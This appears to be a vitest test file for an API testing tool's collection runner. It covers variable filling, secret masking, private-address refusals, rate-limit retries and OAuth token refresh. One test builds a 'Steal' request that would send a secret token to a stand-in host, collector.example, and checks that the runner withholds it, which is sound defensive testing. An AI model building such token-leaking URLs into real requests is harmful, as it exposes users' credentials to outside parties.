import { describe, expect, it } from 'vitest'
import type { TestRequest } from '@/contract/tester'
import { networkErrorTestResponse, okTestResponse } from '@mocks/data/tester'
import {
  requestsIn,
  retryAfterMs,
  runRequests,
  summarize,
  summaryText,
  type RunOutcome,
  type RunRequest,
  type SendResult,
} from './collectionRunner'
import { emptyDraft } from './draft'
import { sendResultOf } from './runnerSend'
import { SECRET_MASK } from './variables'
import type { Collection, Environment } from './workbenchTypes'

const environment: Environment = {
  id: 'e',
  name: 'Local',
  variables: [
    { name: 'base', value: 'https://api.example.com', secret: false },
    { name: 'token', value: 'sk_live_secret', secret: true },
  ],
}

const request = (name: string, url: string, extra: Partial<RunRequest> = {}): RunRequest => ({
  id: name,
  name,
  folders: [],
  draft: { ...emptyDraft, url },
  checks: [],
  ...extra,
})

/** Runs with a scripted server: each send takes the next answer; records what was sent. */
async function run(
  requests: RunRequest[],
  answers: SendResult[],
  controller = new AbortController(),
  withheld?: Map<number, { host: string; names: string[] }>,
) {
  const sent: TestRequest[] = []
  const waited: number[] = []
  const outcomes: RunOutcome[] = requests.map(() => ({ state: 'queued' }))
  const seen: RunOutcome['state'][][] = requests.map(() => [])
  await runRequests(requests, {
    environment,
    withheld,
    signal: controller.signal,
    send: async (req) => {
      sent.push(req)
      const answer = answers.shift()
      if (!answer) throw new Error('no answer scripted')
      return answer
    },
    wait: async (ms) => {
      waited.push(ms)
    },
    onChange: (index, outcome) => {
      outcomes[index] = outcome
      seen[index]?.push(outcome.state)
    },
  })
  return { sent, waited, outcomes, seen }
}

const ok = { kind: 'answer', data: okTestResponse } as const

describe('running a collection', () => {
  it('takes the requests of folders in the order they are listed', () => {
    const collection: Collection = {
      id: 'c',
      name: 'C',
      items: [
        { kind: 'request', id: 'a', name: 'A', draft: emptyDraft },
        {
          kind: 'folder',
          id: 'f',
          name: 'Folder',
          items: [
            { kind: 'folder', id: 'g', name: 'Inner', items: [] },
            { kind: 'request', id: 'b', name: 'B', draft: emptyDraft, checks: [] },
          ],
        },
        { kind: 'request', id: 'c', name: 'C', draft: emptyDraft },
      ],
    }
    expect(requestsIn(collection.items).map((r) => [r.name, r.folders])).toEqual([
      ['A', []],
      ['B', ['Folder']],
      ['C', []],
    ])
  })

  it('sends each in order with variables filled, checks each answer, and masks secrets', async () => {
    const echo = {
      kind: 'answer',
      data: { ...okTestResponse, data: { auth: 'Bearer sk_live_secret' } },
    } as const
    const { sent, outcomes } = await run(
      [
        request('Echo', '{{base}}/echo', {
          draft: {
            ...emptyDraft,
            url: '{{base}}/echo',
            headersText: '{"Authorization": "Bearer {{token}}"}',
          },
          checks: [{ id: 'k', kind: 'status', expected: '200' }],
        }),
        request('Wrong status', '{{base}}/x', {
          checks: [{ id: 'k', kind: 'status', expected: '201' }],
        }),
      ],
      [echo, ok],
    )
    expect(sent.map((r) => r.url)).toEqual([
      'https://api.example.com/echo',
      'https://api.example.com/x',
    ])
    expect(sent[0]?.headers).toEqual({ Authorization: 'Bearer sk_live_secret' })
    expect(outcomes[0]).toMatchObject({
      state: 'answered',
      passed: true,
      data: { data: { auth: `Bearer ${SECRET_MASK}` } },
    })
    expect(outcomes[1]).toMatchObject({
      state: 'answered',
      passed: false,
      results: [{ outcome: 'fail', label: 'Status is 201', actual: '200' }],
    })
    expect(summaryText(summarize(outcomes))).toBe('1 of 2 requests passed their checks')
  })

  it('does not send a withheld request, says where it would have gone, and goes on', async () => {
    const { sent, outcomes } = await run(
      [request('Steal', 'https://collector.example/{{token}}'), request('Mine', '{{base}}/me')],
      [ok],
      new AbortController(),
      new Map([[0, { host: 'collector.example', names: ['token'] }]]),
    )
    expect(sent.map((r) => r.url)).toEqual(['https://api.example.com/me'])
    expect(outcomes[0]).toEqual({ state: 'withheld', host: 'collector.example', names: ['token'] })
    expect(summarize(outcomes)).toMatchObject({ total: 2, finished: 2, passed: 1 })
  })

  it('does not send a request with an unset variable, names it, and goes on', async () => {
    const { sent, outcomes } = await run(
      [request('Missing', '{{base}}/{{nope}}'), request('Fine', '{{base}}/fine')],
      [ok],
    )
    expect(sent).toHaveLength(1)
    expect(outcomes[0]).toEqual({ state: 'notSent', missing: ['nope'] })
    expect(outcomes[1]).toMatchObject({ state: 'answered', passed: true })
  })

  it('reports a refusal, our server unreachable and an upstream network error, and goes on', async () => {
    const { outcomes } = await run(
      [
        request('A', 'http://10.0.0.1/'),
        request('B', 'https://b/'),
        request('C', 'https://c/'),
        request('D', 'https://d/'),
      ],
      [
        {
          kind: 'refused',
          message: 'Requests to private or local network addresses are not allowed',
          blocked: true,
        },
        { kind: 'unreachable' },
        { kind: 'answer', data: networkErrorTestResponse },
        ok,
      ],
    )
    expect(outcomes.map((o) => o.state)).toEqual(['refused', 'refused', 'answered', 'answered'])
    expect(outcomes[0]).toMatchObject({
      title: 'Request blocked',
      message: 'Requests to private or local network addresses are not allowed',
    })
    expect(outcomes[1]).toMatchObject({ title: 'Network error' })
    // No answer from the upstream is not a pass, even with no checks.
    expect(outcomes[2]).toMatchObject({ passed: false })
    expect(summarize(outcomes)).toEqual({ total: 4, passed: 1, finished: 4 })
  })

  it('waits as long as the rate limit says, shows it waiting, then sends the same request again', async () => {
    const { sent, waited, seen, outcomes } = await run(
      [request('A', 'https://a/')],
      [{ kind: 'rateLimited', retryAfterMs: 42_000, message: 'Too many test requests' }, ok],
    )
    expect(waited).toEqual([42_000])
    expect(sent.map((r) => r.url)).toEqual(['https://a/', 'https://a/'])
    expect(seen[0]).toEqual(['sending', 'waiting', 'sending', 'answered'])
    expect(outcomes[0]).toMatchObject({ state: 'answered' })
  })

  it('stops: the request in flight is stopped and the rest are skipped', async () => {
    const controller = new AbortController()
    const requests = [
      request('A', 'https://a/'),
      request('B', 'https://b/'),
      request('C', 'https://c/'),
    ]
    const outcomes: RunOutcome['state'][] = []
    let sends = 0
    await runRequests(requests, {
      environment: null,
      signal: controller.signal,
      send: async () => {
        sends += 1
        if (sends === 1) return ok
        controller.abort()
        return { kind: 'aborted' }
      },
      wait: async () => {},
      onChange: (index, outcome) => {
        outcomes[index] = outcome.state
      },
    })
    expect(sends).toBe(2)
    expect(outcomes).toEqual(['answered', 'stopped', 'skipped'])
  })

  it('reads Retry-After as seconds or a date', () => {
    expect(retryAfterMs('42')).toBe(42_000)
    expect(retryAfterMs('Thu, 26 Nov 2026 20:00:30 GMT', Date.parse('2026-11-26T20:00:00Z'))).toBe(
      30_000,
    )
    expect(retryAfterMs(undefined)).toBe(1000)
    expect(retryAfterMs('soon')).toBe(1000)
  })

  it('reads the endpoint’s results: answer, 429 with Retry-After, guard refusal, no server, aborted', () => {
    expect(sendResultOf({ data: okTestResponse }, false)).toEqual(ok)
    expect(
      sendResultOf(
        { error: { status: 429, data: { success: false, error: 'Too many' }, retryAfter: '7' } },
        false,
      ),
    ).toEqual({ kind: 'rateLimited', retryAfterMs: 7000, message: 'Too many' })
    expect(
      sendResultOf(
        {
          error: {
            status: 400,
            data: {
              success: false,
              error: 'Requests to private or local network addresses are not allowed (10.0.0.1)',
              code: 'blocked_address',
            },
          },
        },
        false,
      ),
    ).toMatchObject({ kind: 'refused', blocked: true })
    expect(
      sendResultOf(
        { error: { status: 400, data: { success: false, error: 'url: Invalid URL' } } },
        false,
      ),
    ).toEqual({ kind: 'refused', message: 'url: Invalid URL', blocked: false })
    expect(
      sendResultOf(
        { error: { status: 'FETCH_ERROR', error: 'TypeError: Failed to fetch' } },
        false,
      ),
    ).toEqual({ kind: 'unreachable' })
    expect(sendResultOf({ error: { name: 'AbortError', message: 'Aborted' } }, true)).toEqual({
      kind: 'aborted',
    })
  })
})

describe('a run refreshing an OAuth 2 token', () => {
  const oauthEnvironment = (expiresAt: string): Environment => ({
    id: 'o',
    name: 'OAuth tokens',
    variables: [
      { name: 'petstore_auth_access_token', value: 'old-token', secret: true },
      { name: 'petstore_auth_refresh_token', value: 'rt-1', secret: true },
      { name: 'petstore_auth_expires_at', value: expiresAt, secret: false },
      { name: 'petstore_auth_scope', value: 'read', secret: false },
    ],
  })
  const withToken = (env: Environment, token: string): Environment => ({
    ...env,
    // As the OAuth panel keeps a new token: its value and its new expiry.
    variables: env.variables.map((v) =>
      v.name === 'petstore_auth_access_token'
        ? { ...v, value: token }
        : v.name === 'petstore_auth_expires_at'
          ? { ...v, value: new Date(Date.now() + 3_600_000).toISOString() }
          : v,
    ),
  })
  const authorized = (name: string) =>
    request(name, 'https://api.example.com/pets', {
      draft: {
        ...emptyDraft,
        url: 'https://api.example.com/pets',
        headersText: JSON.stringify({ Authorization: 'Bearer {{petstore_auth_access_token}}' }),
      },
    })
  const answer = (status: number): SendResult => ({
    kind: 'answer',
    data: { ...okTestResponse, status },
  })

  async function runWithRefresh(
    requests: RunRequest[],
    start: Environment,
    answers: SendResult[],
    refreshed: 'ok' | 'fails' = 'ok',
  ) {
    const sent: string[] = []
    const refreshes: string[] = []
    const outcomes: RunOutcome[] = requests.map(() => ({ state: 'queued' }))
    await runRequests(requests, {
      environment: start,
      signal: new AbortController().signal,
      send: async (req) => {
        sent.push(req.headers?.Authorization ?? '')
        return answers.shift()!
      },
      wait: async () => {},
      onChange: (index, outcome) => {
        outcomes[index] = outcome
      },
      refreshToken: async (scheme, env) => {
        refreshes.push(scheme)
        return refreshed === 'ok'
          ? { kind: 'refreshed', environment: withToken(env, `new-token-${refreshes.length}`) }
          : { kind: 'failed', message: 'invalid_grant: the refresh token was revoked' }
      },
    })
    return { sent, refreshes, outcomes }
  }

  it('refreshes an expired token once before sending, and the next request uses the new one', async () => {
    const { sent, refreshes, outcomes } = await runWithRefresh(
      [authorized('First'), authorized('Second')],
      oauthEnvironment('2000-01-01T00:00:00.000Z'),
      [answer(200), answer(200)],
    )
    expect(refreshes).toEqual(['petstore_auth'])
    expect(sent).toEqual(['Bearer new-token-1', 'Bearer new-token-1'])
    expect(outcomes[0]).toMatchObject({
      state: 'answered',
      refresh: { scheme: 'petstore_auth', reason: 'expired', refreshed: true },
    })
    expect(outcomes[1]).not.toHaveProperty('refresh')
  })

  it('refreshes once on a 401 and sends again, never twice', async () => {
    const later = new Date(Date.now() + 3_600_000).toISOString()
    const { sent, refreshes, outcomes } = await runWithRefresh(
      [authorized('Pets')],
      oauthEnvironment(later),
      [answer(401), answer(401)],
    )
    expect(refreshes).toEqual(['petstore_auth'])
    expect(sent).toEqual(['Bearer old-token', 'Bearer new-token-1'])
    expect(outcomes[0]).toMatchObject({
      state: 'answered',
      data: { status: 401 },
      refresh: { reason: 'unauthorized', refreshed: true },
    })
  })

  it('says when the refresh fails, and keeps the 401 without sending again', async () => {
    const later = new Date(Date.now() + 3_600_000).toISOString()
    const { sent, outcomes } = await runWithRefresh(
      [authorized('Pets')],
      oauthEnvironment(later),
      [answer(401)],
      'fails',
    )
    expect(sent).toEqual(['Bearer old-token'])
    expect(outcomes[0]).toMatchObject({
      state: 'answered',
      passed: true,
      refresh: {
        refreshed: false,
        message: 'invalid_grant: the refresh token was revoked',
      },
    })
  })

  it('leaves a token without a refresh token, and requests that name no token, alone', async () => {
    const env = oauthEnvironment('2000-01-01T00:00:00.000Z')
    const noRefresh = {
      ...env,
      variables: env.variables.filter((v) => v.name !== 'petstore_auth_refresh_token'),
    }
    const { refreshes } = await runWithRefresh(
      [authorized('Pets'), request('Plain', 'https://api.example.com/health')],
      noRefresh,
      [answer(401), answer(200)],
    )
    expect(refreshes).toEqual([])
  })
})
